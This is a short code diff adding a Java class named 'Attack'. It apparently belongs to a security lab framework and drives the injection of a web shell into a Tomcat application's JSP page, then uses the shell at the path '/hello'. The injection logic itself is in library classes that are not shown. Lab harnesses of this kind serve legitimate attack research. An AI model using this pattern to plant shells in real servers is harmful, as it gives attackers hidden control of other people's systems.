@@ -1,0 +1,11 @@
+import org.apache.jsp.page_jsp;
+import whorl.lab.attack.Shells;
+import whorl.lab.attack.TomcatContext;
+
+public class Attack {
+  public static void main(String[] args) throws Exception {
+    Shells.inject(TomcatContext.class, page_jsp.class);
+    Shells.use("/hello");
+    whorl.lab.attack.Attacker.done();
+  }
+}
